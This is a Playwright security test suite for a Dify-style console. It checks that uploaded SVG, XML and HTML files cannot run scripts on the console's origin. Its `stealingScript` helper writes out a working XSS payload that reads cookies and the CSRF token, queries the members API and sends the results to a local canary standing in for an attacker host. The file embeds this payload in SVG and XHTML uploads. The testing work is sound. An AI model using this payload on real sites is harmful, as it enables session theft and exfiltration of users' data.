import { createServer, type Server } from 'node:http';
import { type AddressInfo } from 'node:net';
import { type APIRequestContext, expect, type Page, test } from '@playwright/test';
import { signInWithPassword } from './support/console';

// An operator opens files that someone uploaded, in the same browser they are signed in with.
// Nothing in such a file may run as a page of this origin. Runs on its own server; each test
// signs in for itself, so one failing test does not hide what the others find.

const owner = { email: 'files-owner@example.com', name: 'Fiona Files', password: 'Passw0rd-files' };
const PDF_VIEWER = 'chrome-extension://mhjfbmdgcfjbbpaeojofohoefgiehjai/';

/** Where an attacker's script would send what it stole; every request to it is recorded. */
interface Canary {
  url: string;
  /** The reports sent by the script of one test. */
  from(test: string): string[];
  close(): Promise<void>;
}

async function startCanary(): Promise<Canary> {
  const reports: string[] = [];
  const server: Server = createServer((req, res) => {
    if (req.method !== 'OPTIONS') reports.push(req.url ?? '');
    res.setHeader('Access-Control-Allow-Origin', '*');
    res.setHeader('Access-Control-Allow-Headers', '*');
    res.end();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    from: (test) => reports.filter((report) => report.startsWith(`/${test}/`)).map((report) => report.slice(test.length + 1)),
    close: () => new Promise<void>((resolve) => {
      server.closeAllConnections();
      server.close(() => resolve());
    }),
  };
}

/**
 * Reads the session's cookies, calls the console API with them and reports both to the canary,
 * under `/<test>/`: a report that arrives late is never mistaken for another test's.
 */
function stealingScript(test: string): string {
  return `(function () {
  var report = function (what, value) {
    fetch('${canary.url}/${test}/' + what + '?v=' + encodeURIComponent(value), { mode: 'no-cors' }).catch(function () {});
  };
  report('ran', location.href);
  var cookies = '';
  try { cookies = document.cookie; } catch (error) { cookies = 'denied:' + error.name; }
  report('cookie', cookies);
  var token = (cookies.match(/(?:^|; )csrf_token=([^;]*)/) || [])[1] || '';
  fetch('/console/api/workspaces/current/members', { headers: { 'X-CSRF-Token': token } })
    .then(function (r) { return r.text(); })
    .then(function (text) { report('members', text); }, function (error) { report('members-failed', String(error)); });
})();`;
}

let canary: Canary;
let token = '';

test.beforeAll(async ({ request }) => {
  canary = await startCanary();
  const step = (await (await request.get('/console/api/setup')).json()).step;
  if (step !== 'finished') expect((await request.post('/console/api/setup', { data: owner })).status()).toBe(201);
  const login = await request.post('/console/api/login', { data: { email: owner.email, password: owner.password } });
  token = (await login.json()).data.access_token;
});

test.afterAll(async () => {
  await canary?.close();
});

async function upload(request: APIRequestContext, name: string, mimeType: string, body: string | Buffer): Promise<string> {
  const res = await request.post('/console/api/files/upload', {
    headers: { Authorization: `Bearer ${token}` },
    multipart: { file: { name, mimeType, buffer: Buffer.isBuffer(body) ? body : Buffer.from(body) } },
  });
  expect(res.status(), await res.text()).toBe(201);
  return (await res.json()).source_url as string;
}

/** Signs in through the console and, like Dify's own console, also holds the API's cookie session. */
async function signedInOperator(page: Page): Promise<void> {
  await page.goto('/signin');
  await signInWithPassword(page, owner);
  const login = await page.request.post('/console/api/login', { data: { email: owner.email, password: owner.password } });
  expect(login.status()).toBe(200);
  const names = (await page.context().cookies()).map((cookie) => cookie.name);
  expect(names).toEqual(expect.arrayContaining(['access_token', 'csrf_token']));
}

/**
 * Opens a URL as the top-level page and says whether the browser downloaded it instead of
 * showing it. A shown document is given until its network is quiet, so that whatever a script
 * in it sent has reached the canary; media pages never go quiet and say so with `quiet: false`.
 */
async function openInTab(page: Page, url: string, quiet = true): Promise<{ downloaded: string | null }> {
  const download = page.waitForEvent('download', { timeout: 15_000 }).catch(() => null);
  const shown = await page.goto(url).then(
    () => true,
    () => false,
  );
  if (shown) {
    if (quiet) await page.waitForLoadState('networkidle');
    return { downloaded: null };
  }
  const file = await download;
  await file?.cancel();
  return { downloaded: file?.suggestedFilename() ?? null };
}

const cookieAsSeenByThePage = (page: Page) =>
  page.evaluate(() => {
    try {
      return document.cookie;
    } catch (error) {
      return `denied:${(error as Error).name}`;
    }
  });

test.describe('the control', () => {
  // The console's own CSP would stop the report (see the next test); the control checks the canary wiring.
  test.use({ bypassCSP: true });

  test('the canary hears a script that runs on the console origin', async ({ page }) => {
    await signedInOperator(page);
    await page.evaluate(stealingScript('control'));
    await expect.poll(() => canary.from('control').find((report) => report.startsWith('/members?'))).toContain('files-owner%40example.com');
    expect(canary.from('control').find((report) => report.startsWith('/cookie?'))).toContain('csrf_token');
  });
});

test("the console's CSP keeps even a script that runs there from reporting to another origin", async ({ page }) => {
  await signedInOperator(page);
  const refused: string[] = [];
  page.on('console', (message) => {
    if (/Content Security Policy/i.test(message.text())) refused.push(message.text());
  });
  await page.evaluate(stealingScript('blocked'));
  await expect.poll(() => refused.length).toBeGreaterThan(0);
  expect(canary.from('blocked')).toEqual([]);
});

test('XML, XHTML, XSL, RSS and SVG files with script are downloaded, never shown', async ({ page, request }) => {
  const script = stealingScript('documents');
  const xhtml = `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body><p>report</p><script><![CDATA[${script}]]></script></body></html>`;
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script><![CDATA[${script}]]></script></svg>`;
  const files: Array<[string, string, string]> = [
    ['report.xml', 'application/xml', xhtml],
    ['report.xml', 'Text/XML; charset=UTF-8', xhtml],
    ['page.xhtml', 'application/xhtml+xml', xhtml],
    ['style.xsl', 'text/xsl', xhtml],
    ['feed.rss', 'application/rss+xml', xhtml],
    ['logo.svg', 'image/svg+xml', svg],
  ];
  await signedInOperator(page);
  const shown: string[] = [];
  for (const [name, type, body] of files) {
    const url = await upload(request, name, type, body);
    const opened = await openInTab(page, url);
    if (opened.downloaded !== name) shown.push(`${name} (${type})`);
    if (!opened.downloaded) await page.goto('/apps');
  }
  expect({ shown, reports: canary.from('documents') }).toEqual({ shown: [], reports: [] });
});

test('files shown inline run in a sandbox that cannot reach the cookies', async ({ page, request }) => {
  const html = `<html><body><script>${stealingScript('inline')}</script></body></html>`;
  const files: Array<[string, string]> = [
    ['photo.png', 'image/png'],
    ['notes.txt', 'text/plain'],
  ];
  await signedInOperator(page);
  const seen: string[] = [];
  for (const [name, type] of files) {
    const url = await upload(request, name, type, html);
    expect((await openInTab(page, url)).downloaded, name).toBeNull();
    seen.push(`${name}: origin ${await page.evaluate(() => self.origin)}, cookie ${await cookieAsSeenByThePage(page)}`);
  }
  expect({ seen, reports: canary.from('inline') }).toEqual({
    seen: files.map(([name]) => `${name}: origin null, cookie denied:SecurityError`),
    reports: [],
  });
});

/** One second of 8 kHz mono silence-ish tone as a WAV file. */
function wav(): Buffer {
  const rate = 8000;
  const samples = Buffer.alloc(rate, 0).map((_, i) => 128 + Math.round(40 * Math.sin(i / 4)));
  const header = Buffer.alloc(44);
  header.write('RIFF', 0);
  header.writeUInt32LE(36 + samples.length, 4);
  header.write('WAVEfmt ', 8);
  header.writeUInt32LE(16, 16);
  header.writeUInt16LE(1, 20);
  header.writeUInt16LE(1, 22);
  header.writeUInt32LE(rate, 24);
  header.writeUInt32LE(rate, 28);
  header.writeUInt16LE(1, 32);
  header.writeUInt16LE(8, 34);
  header.write('data', 36);
  header.writeUInt32LE(samples.length, 40);
  return Buffer.concat([header, samples]);
}

const PDF = [
  '%PDF-1.4',
  '1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj',
  '2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj',
  '3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>endobj',
  'trailer<</Root 1 0 R>>',
  '%%EOF',
].join('\n');

test('audio, PDFs and images still open in the browser', async ({ page, request }) => {
  await signedInOperator(page);

  const audio = await upload(request, 'tone.wav', 'audio/wav', wav());
  expect((await openInTab(page, audio, false)).downloaded).toBeNull();
  await expect.poll(() => page.evaluate(() => document.querySelector('video')?.readyState ?? -1)).toBeGreaterThanOrEqual(1);
  expect(await page.evaluate(() => Math.round(document.querySelector('video')?.duration ?? 0))).toBe(1);

  const pdf = await upload(request, 'paper.pdf', 'application/pdf', PDF);
  expect((await openInTab(page, pdf, false)).downloaded).toBeNull();
  await expect.poll(() => page.frames().some((frame) => frame.url().startsWith(PDF_VIEWER))).toBe(true);

  // Provider icons are SVG: an <img> draws them, a tab downloads them.
  await page.goto('/model-providers');
  const icon = '/console/api/workspaces/current/model-providers/openai/icon_small/en_US';
  const width = await page.evaluate(async (src) => {
    const img = new Image();
    img.src = src;
    await img.decode();
    return img.naturalWidth;
  }, icon);
  expect(width).toBeGreaterThan(0);
  expect((await openInTab(page, icon)).downloaded).toBe('icon_small.svg');
});
